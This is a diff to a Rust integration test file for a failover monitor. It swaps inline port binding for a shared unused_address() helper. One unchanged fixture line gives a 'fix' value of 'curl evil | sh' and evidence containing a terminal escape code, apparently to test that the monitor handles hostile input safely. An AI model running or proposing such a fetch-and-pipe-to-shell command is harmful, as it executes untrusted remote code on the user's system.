@@ -2,6 +2,8 @@
 
 #![allow(clippy::unwrap_used, clippy::panic)] // A test that cannot go on has failed.
 
+#[path = "../support/address.rs"]
+mod address;
 #[path = "../support/needs.rs"]
 mod needs;
 
@@ -18,6 +20,8 @@ use std::process::{Child, ChildStderr, Command, Stdio};
 use std::sync::mpsc::{self, Receiver};
 use std::thread;
 use std::time::{Duration, Instant};
+
+use crate::address::unused_address;
 
 const BINARY: &str = env!("CARGO_BIN_EXE_openclaw-failover");
 
@@ -106,7 +110,7 @@ fn configure(folder: &Path, primary: SocketAddr, extra: &str) {
 #[test]
 fn hup_takes_up_a_good_configuration_and_refuses_a_bad_one_and_term_ends_it_well() {
     let folder = tempfile::tempdir().unwrap();
-    let primary = TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap();
+    let primary = unused_address();
     let _gateway = stub(primary);
     configure(folder.path(), primary, "");
     let (mut monitor, lines) = monitor(folder.path());
@@ -151,7 +155,7 @@ fn a_bad_configuration_is_refused_before_anything_is_written() {
 #[test]
 fn an_operator_is_obeyed_and_told() {
     let folder = tempfile::tempdir().unwrap();
-    let primary = TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap();
+    let primary = unused_address();
     let _gateway = stub(primary);
     configure(folder.path(), primary, "");
     let (monitor, lines) = monitor(folder.path());
@@ -186,7 +190,7 @@ fn an_operator_is_obeyed_and_told() {
 #[test]
 fn the_reason_of_a_pause_is_told_and_outlives_the_monitor_but_not_the_pause() {
     let folder = tempfile::tempdir().unwrap();
-    let primary = TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap();
+    let primary = unused_address();
     let _gateway = stub(primary);
     configure(folder.path(), primary, "");
     let (mut watching, lines) = monitor(folder.path());
@@ -278,7 +282,7 @@ fn what_keeps_it_from_taking_over_is_told_and_so_is_its_end() {
            {"id":"channels","level":"fail","evidence":"\u001b[2Jnone","fix":"curl evil | sh"},
            {"id":"polkit","level":"fail","evidence":"not its to say","fix":""}"#,
     );
-    let primary = TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap();
+    let primary = unused_address();
     let _gateway = stub(primary);
     configure(folder.path(), primary, r#", "workspace": { "refresh": "1s" }"#);
     let (mut monitor, lines) = monitor(folder.path());
@@ -314,7 +318,7 @@ fn what_keeps_it_from_taking_over_is_told_and_so_is_its_end() {
 #[test]
 fn a_second_monitor_on_one_state_folder_ends_with_1_and_says_which_process_holds_it() {
     let folder = tempfile::tempdir().unwrap();
-    let primary = TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap();
+    let primary = unused_address();
     configure(folder.path(), primary, "");
     let socket = folder.path().join("run/control.sock");
     let (first, lines) = monitor(folder.path());
@@ -338,7 +342,7 @@ fn a_second_monitor_on_one_state_folder_ends_with_1_and_says_which_process_holds
 #[test]
 fn a_state_folder_that_cannot_be_locked_costs_a_warning_and_no_monitor() {
     let folder = tempfile::tempdir().unwrap();
-    let primary = TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap();
+    let primary = unused_address();
     configure(folder.path(), primary, "");
     fs::create_dir(folder.path().join("run")).unwrap();
     let mut command = Command::new(BINARY);
@@ -354,7 +358,7 @@ fn a_state_folder_that_cannot_be_locked_costs_a_warning_and_no_monitor() {
 #[test]
 fn a_port_that_another_process_holds_is_named_before_a_start_where_the_url_has_a_name_too() {
     let folder = tempfile::tempdir().unwrap();
-    let primary = TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap();
+    let primary = unused_address();
     let holder = TcpListener::bind("127.0.0.1:0").unwrap();
     let port = holder.local_addr().unwrap().port();
     fs::create_dir_all(folder.path().join("bin/units")).unwrap();
